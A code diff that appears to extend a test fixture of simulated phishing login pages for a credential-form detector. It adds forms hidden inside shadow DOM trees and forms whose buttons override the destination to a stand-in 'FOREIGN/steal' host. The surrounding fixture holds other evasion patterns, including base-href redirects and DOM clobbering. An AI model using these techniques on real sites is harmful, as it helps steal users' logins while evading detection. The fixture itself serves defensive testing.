@@ -42,6 +42,13 @@ document.addEventListener('input', function (event) { if (event.target.type === 
 send('opened');
 </script>"""
 
+
+
+def in_a_tree(form: str) -> str:
+    """A log-in in an open shadow tree, where the document's own search finds nothing of it."""
+    return f"<div id=tree></div><script>tree.attachShadow({{mode: 'open'}}).innerHTML = `{form}`</script>"
+
+
 PAGES = {
     "/": f"<title>Portal</title><h1>Masuk</h1><form method=post action=/in>{LOGIN}</form>",
     "/script-away": "<script>location.href = 'FOREIGN/imitation'</script><p>Tunggu",
@@ -51,6 +58,9 @@ PAGES = {
     "/foreign-form": f"<form method=post action=FOREIGN/steal>{LOGIN}</form>",
     "/get-form": f"<form method=get action=/in>{LOGIN}</form>",
     "/foreign-button": f"<form method=post action=/in>{LOGIN}<button formaction=FOREIGN/steal>Lanjut</button></form>",
+    "/tree": in_a_tree(f"<form method=post action=/in>{LOGIN}</form>"),
+    "/tree-button": in_a_tree(f"<form method=post action=/in>{LOGIN}<button formaction=FOREIGN/steal>Lanjut</button></form>"),
+    "/tree-get": in_a_tree(f"<form method=post action=/in>{LOGIN}<input type=image formmethod=get></form>"),
     "/base": f"<base href=FOREIGN/><form method=post action=in>{LOGIN}</form>",
     "/clobbered": f"<form method=post action=FOREIGN/steal>{LOGIN}<input name=action value=/in><input name=getAttribute value=x></form>",
     "/two": f"<form method=post action=/in>{LOGIN}</form><form method=post action=/in><input type=password name=p2></form>",
